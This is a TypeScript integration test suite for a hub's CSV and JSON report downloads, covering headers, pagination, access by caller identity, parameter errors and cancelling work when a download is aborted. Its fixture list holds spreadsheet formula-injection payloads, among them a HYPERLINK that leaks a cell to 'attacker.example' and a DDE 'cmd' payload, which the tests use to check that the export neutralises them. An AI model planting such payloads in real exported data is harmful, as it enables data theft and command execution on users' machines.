import { parse } from 'csv-parse/sync';
import { Client } from 'pg';

import { cityIdFromSlug } from '@hrc/domain-kit';

import { startHub, type RunningHub } from './support/hub';

/*
 * Issue 12, downloads: the gateway serves CSV and JSON at stable URLs under /reports, through its own GraphQL
 * pipeline with the caller's identity; formulas in contributed text are neutralised; bad parameters are named;
 * a client that goes away stops the work done for it.
 */

let hub: RunningHub;
let base: string;
let secretariat: string;
let partner: string;
const GWANGJU = cityIdFromSlug('gwangju');

const FORMULA_TITLES = [
  '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\tTabbed title',
  '\rCarriage return title',
];

async function createPolicy(title: string, token: string): Promise<string> {
  const result = await hub.query(`mutation($input: CreatePolicyInput!) { createPolicy(input: $input) { id } }`, {
    variables: { input: { cityId: GWANGJU, title, summary: 'Export test fixture.' } },
    token,
  });
  expect(result.errors).toBeUndefined();
  return result.data!.createPolicy.id as string;
}

beforeAll(async () => {
  hub = await startHub({
    gatewayEnvironment: { SUBGRAPH_TIMEOUT_MS: '120000' },
    subgraphEnvironment: { REQUEST_DEADLINE_MS: '600000', DATABASE_STATEMENT_TIMEOUT_MS: '0' },
  });
  base = new URL(hub.url).origin;
  secretariat = await hub.token('secretariat');
  const [{ id: organizationId }] = (await hub.subgraphs
    .get('cities')!
    .app.orm.em.getConnection()
    .execute(`select id from cities.organization order by slug limit 1`)) as Array<{ id: string }>;
  partner = await hub.token('partner', organizationId);
  for (const title of FORMULA_TITLES) await createPolicy(title, secretariat);
  // More than one page (100) of published policies, copied from one seeded policy in SQL.
  const connection = hub.subgraphs.get('cities')!.app.orm.em.getConnection();
  const columns = (
    (await connection.execute(
      `select column_name as name from information_schema.columns
        where table_schema = 'cities' and table_name = 'policy' and is_generated = 'NEVER' and column_name <> 'id'`,
    )) as Array<{ name: string }>
  ).map((column) => `"${column.name}"`);
  await connection.execute(
    `insert into cities.policy (id, ${columns.join(', ')})
      select gen_random_uuid(), ${columns.map((column) => `p.${column}`).join(', ')}
        from cities.policy p, generate_series(1, 120)
       where p.id = (select id from cities.policy where status = 'PUBLISHED' order by id limit 1)`,
  );
  await createPolicy('A partner draft awaiting review', partner);
});
afterAll(() => hub?.close());

function download(path: string, token?: string, init: RequestInit = {}) {
  return fetch(`${base}${path}`, {
    ...init,
    headers: token ? { authorization: `Bearer ${token}` } : {},
  });
}

function rowsOf(text: string): string[][] {
  return parse(text, { bom: false, relax_column_count: false }) as string[][];
}

describe('CSV downloads', () => {
  test('policies: RFC 4180 UTF-8 with a header row, licence headers, and formulas neutralised', async () => {
    const response = await download(`/reports/policies.csv?cityId=${GWANGJU}`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(response.headers.get('content-disposition')).toMatch(
      /^attachment; filename="hrc-policies-\d{4}-\d\d-\d\d\.csv"$/,
    );
    expect(response.headers.get('x-data-licence')).toContain('CC BY 4.0');
    expect(response.headers.get('link')).toBe(
      '</reports/policies.csv.meta.json>; rel="describedby"; type="application/json"',
    );
    const text = await response.text();
    expect(text.split('\r\n')[0]).toBe(
      'id,title,city_id,city,country,region,stage,status,themes,sdgs,sdg_targets,adopted_in,adopted_on,source_url,contributor,sample_data',
    );
    const [header, ...rows] = rowsOf(text);
    const titles = rows.map((row) => row[header!.indexOf('title')]!);
    for (const title of FORMULA_TITLES) expect(titles).toContain(`'${title}`);
    // Nothing a spreadsheet would evaluate is left in any cell.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
    expect(titles).not.toContain('A partner draft awaiting review');
  });

  test('the caller identity applies: the secretariat sees the partner draft the public does not', async () => {
    const text = await (await download(`/reports/policies.csv?cityId=${GWANGJU}`, secretariat)).text();
    expect(text).toContain('A partner draft awaiting review');
  });

  test('a download pages through the whole connection and equals the API total', async () => {
    const total = await hub.query(`{ policies(first: 1) { totalCount } cities(first: 1) { totalCount } }`);
    const policies = rowsOf(await (await download('/reports/policies.csv')).text());
    expect(policies.length - 1).toBe(total.data!.policies.totalCount);
    expect(total.data!.policies.totalCount).toBeGreaterThan(100);
    const cities = rowsOf(await (await download('/reports/cities.csv')).text());
    expect(cities.length - 1).toBe(total.data!.cities.totalCount);
    expect(new Set(cities.slice(1).map((row) => row[0])).size).toBe(cities.length - 1);
  });

  test('?hxl=1 adds the HXL hashtag row under the header', async () => {
    const rows = rowsOf(await (await download('/reports/cities.csv?hxl=1&region=ASIA')).text());
    expect(rows[0]!.slice(0, 3)).toEqual(['id', 'slug', 'name']);
    expect(rows[1]!.slice(0, 3)).toEqual(['#loc+id', '#loc+code', '#loc+name']);
    expect(rows.slice(2).every((row) => row[rows[0]!.indexOf('region')] === 'ASIA')).toBe(true);
  });

  test('indicator values and education reach download', async () => {
    const values = await download('/reports/indicator-values.csv?fromYear=2020');
    expect(values.status).toBe(200);
    const valueRows = rowsOf(await values.text());
    expect(valueRows[0]).toContain('indicator');
    const reach = await download('/reports/education-reach.csv?year=2023');
    expect(reach.status).toBe(200);
    const reachRows = rowsOf(await reach.text());
    expect(reachRows[0]).toEqual(expect.arrayContaining(['enrolled', 'completed', 'completion_rate']));
    expect(reachRows.length).toBeGreaterThan(1);
  });

  test('the sidecar gives licence, source, retrieval time, filter and the columns', async () => {
    const response = await download('/reports/cities.csv.meta.json?region=ASIA');
    expect(response.status).toBe(200);
    const meta = (await response.json()) as Record<string, any>;
    expect(meta).toMatchObject({
      licence: 'CC BY 4.0',
      attribution: 'Human Rights Cities Network Hub',
      filter: { region: 'ASIA' },
    });
    expect(Date.parse(meta.retrievedAt)).not.toBeNaN();
    expect(meta.columns[0]).toEqual({ name: 'id', hxl: '#loc+id' });
  });
});

describe('network report downloads', () => {
  const REPORT = `query($filter: NetworkReportFilter) { networkReport(filter: $filter) {
    rows { cityId cities { policies } education { enrolled } events { registrations } }
    regions { region cities { cities policies } education { enrolled } events { registrations } }
    network { cities { cities declaredCities mechanisms policies } education { programs enrolled completed }
      events { editionsHosted sessions registrations attended } } } }`;

  test('CSV and JSON equal the GraphQL network report', async () => {
    const graph = await hub.query(REPORT, { variables: { filter: { fromYear: 2020, toYear: 2024 } } });
    expect(graph.errors).toBeUndefined();
    const expected = graph.data!.networkReport;

    const json = (await (await download('/reports/network.json?fromYear=2020&toYear=2024')).json()) as any;
    expect(json.meta).toMatchObject({ licence: 'CC BY 4.0', filter: { fromYear: 2020, toYear: 2024 } });
    expect(json.report.network).toMatchObject(expected.network);
    expect(json.report.rows).toHaveLength(expected.rows.length);

    const [header, ...lines] = rowsOf(await (await download('/reports/network.csv?fromYear=2020&toYear=2024')).text());
    const cell = (line: string[], name: string) => line[header!.indexOf(name)];
    const network = lines.find((line) => cell(line, 'level') === 'network')!;
    expect(Number(cell(network, 'cities'))).toBe(expected.network.cities.cities);
    expect(Number(cell(network, 'policies'))).toBe(expected.network.cities.policies);
    expect(Number(cell(network, 'enrolled'))).toBe(expected.network.education.enrolled);
    expect(Number(cell(network, 'registrations'))).toBe(expected.network.events.registrations);
    expect(lines.filter((line) => cell(line, 'level') === 'city')).toHaveLength(expected.rows.length);
    for (const region of expected.regions) {
      const line = lines.find(
        (candidate) => cell(candidate, 'level') === 'region' && cell(candidate, 'region') === region.region,
      )!;
      expect(Number(cell(line, 'policies'))).toBe(region.cities.policies);
    }
  });

  test.each([
    ['fromYear=abc', 'fromYear'],
    ['region=ATLANTIS', 'region'],
    ['theme=NOPE', 'theme'],
    ['colour=blue', 'colour'],
    ['hxl=maybe', 'hxl'],
    ['fromYear=2024&toYear=2020', 'Year'],
  ])('a bad parameter (%s) gets 400 naming it', async (query, parameter) => {
    for (const format of ['csv', 'json']) {
      const response = await download(`/reports/network.${format}?${query}`);
      expect(response.status).toBe(400);
      expect(response.headers.get('content-type')).toMatch(/^text\/plain/);
      expect(await response.text()).toContain(parameter);
    }
  });

  test('a bad parameter of a paged download gets 400 too', async () => {
    const response = await download('/reports/cities.csv?region=MARS');
    expect(response.status).toBe(400);
    expect(await response.text()).toContain('region');
  });

  test('a bad token gets 401, as at /graphql', async () => {
    const response = await download('/reports/network.csv', 'not-a-token');
    expect(response.status).toBe(401);
  });
});

describe('an interrupted download', () => {
  let locker: Client;
  let observer: Client;
  beforeAll(async () => {
    const databaseUrl = hub.subgraphs.get('cities')!.database.url;
    locker = new Client({ connectionString: databaseUrl });
    observer = new Client({ connectionString: databaseUrl });
    await Promise.all([locker.connect(), observer.connect()]);
  });
  afterAll(async () => {
    await Promise.all([locker?.end(), observer?.end()]);
  });

  async function waitingOnTheLock(): Promise<number> {
    const { rows } = await observer.query<{ waiting: number }>(
      `select count(*)::int as waiting from pg_stat_activity
        where datname = current_database() and state = 'active' and wait_event_type = 'Lock'`,
    );
    return rows[0]!.waiting;
  }

  async function eventually(read: () => Promise<number>, done: (value: number) => boolean): Promise<number> {
    let value = await read();
    for (let attempt = 0; attempt < 100 && !done(value); attempt += 1) {
      await new Promise((resolve) => setTimeout(resolve, 100));
      value = await read();
    }
    return value;
  }

  async function exportOperations(): Promise<number> {
    const metrics = await (await fetch(hub.gateway.listeningAddress()!.metricsUrl)).text();
    const line = metrics
      .split('\n')
      .find(
        (candidate) =>
          candidate.startsWith('hub_graphql_requests_total{') && candidate.includes('operation="ExportPolicies"'),
      );
    return line ? Number(line.split(' ').pop()) : 0;
  }

  test('cancels the statement running for it and starts no further page', async () => {
    const before = await exportOperations();
    // The first page waits on a lock the test holds; the client goes away meanwhile.
    await locker.query('begin');
    await locker.query('lock table cities.policy in access exclusive mode');
    try {
      const client = new AbortController();
      // With a token: the public's first page may already sit in the gateway's response cache and never reach SQL.
      const token = await hub.token('secretariat');
      const request = download('/reports/policies.csv', token, { signal: client.signal }).catch(
        (error: unknown) => error,
      );
      expect(await eventually(waitingOnTheLock, (waiting) => waiting > 0)).toBeGreaterThan(0);
      client.abort();
      await request;
      expect(await eventually(waitingOnTheLock, (waiting) => waiting === 0)).toBe(0);
    } finally {
      await locker.query('rollback');
    }
    // Requests after it complete, and the abandoned download ran one operation (the cancelled page) and no more.
    const total = (await hub.query('{ policies(first: 1) { totalCount } }')).data!.policies.totalCount as number;
    expect(total).toBeGreaterThan(100);
    await hub.query('{ cities(first: 1) { totalCount } }');
    expect((await exportOperations()) - before).toBe(1);
  });
});
